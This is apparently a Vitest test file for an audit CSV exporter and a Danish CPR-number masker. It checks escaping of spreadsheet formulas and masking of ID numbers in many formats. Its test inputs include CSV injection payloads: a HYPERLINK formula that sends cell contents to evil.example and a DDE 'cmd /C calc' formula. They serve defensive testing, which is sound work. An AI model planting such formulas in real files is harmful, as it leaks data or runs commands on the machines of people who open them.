import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './audit-csv.ts';
import { maskCprs, maskCprsInText } from './audit-redaction.ts';

describe('CSV cells for the auditor', () => {
  it('neutralises cells a spreadsheet would run as formulas', () => {
    expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    for (const lead of ['+', '-', '@', '\t']) expect(csvCell(`${lead}1`)).toBe(`'${lead}1`);
    expect(csvCell('plain')).toBe('plain');
  });

  it('separates by ";" as Danish Excel does, quoting separators, quotes and line breaks; objects as JSON', () => {
    expect(csvRow(['a;b', 'a,b', 'say "hi"', 'two\nlines', null, 42, { k: 'v' }])).toBe(
      '"a;b";"a,b";"say ""hi""";"two\nlines";;42;"{""k"":""v""}"\r\n',
    );
  });

  // However a spreadsheet splits the line (by ";", by ",", or ignoring quotes altogether), no
  // piece it could make into a cell starts with a formula trigger.
  it.each([
    'Ikke vores borger;=HYPERLINK("http://evil.example/?"&A1;"klik")',
    'note,+SUM(1;2)',
    "første linje\n=cmd|' /C calc'!A0",
    'x; @SUM(A1)',
    'x;\t=1+1',
  ])('leaves no formula in %j for any way of splitting the row', (note) => {
    const line = csvRow(['letter-1', note]);
    const pieces = line.split(/[;,\r\n]/).map((piece) => piece.replace(/^[ \t]*"?/, ''));
    expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
  });
});

describe('CPR masking in free text', () => {
  it.each([
    ['spaced', 'cpr 250947 9989', 'cpr 250947-xxxx'],
    ['grouped', 'cpr 25 09 47 9989', 'cpr 250947-xxxx'],
    ['dotted', 'cpr 25.09.47-9989', 'cpr 250947-xxxx'],
    ['with an en dash', 'cpr 250947–9989', 'cpr 250947-xxxx'],
    ['in full-width digits', 'cpr ２５０９４７９９８９', 'cpr 250947-xxxx'],
    ['in mathematical digits', 'cpr 𝟐𝟓𝟎𝟗𝟒𝟕𝟗𝟗𝟖𝟗', 'cpr 250947-xxxx'],
  ])('masks a CPR written %s', (_how, text, masked) => {
    expect(maskCprsInText(text)).toBe(masked);
  });

  it('masks a CPR with or without dash, leaving SOR ids, EANs and non-dates alone', () => {
    expect(maskCprsInText('borger 2509479989 og 250947-9989')).toBe('borger 250947-xxxx og 250947-xxxx');
    expect(maskCprsInText('SOR 265161000016000, EAN 5790000209354, nr 9999999999')).toBe(
      'SOR 265161000016000, EAN 5790000209354, nr 9999999999',
    );
  });

  it('masks inside nested details and says so', () => {
    expect(maskCprs({ text: 'cpr 2509479989', list: ['x'], n: 1 })).toEqual({
      value: { text: 'cpr 250947-xxxx', list: ['x'], n: 1 },
      masked: true,
    });
    expect(maskCprs({ code: 'wrong-recipient' }).masked).toBe(false);
  });
});
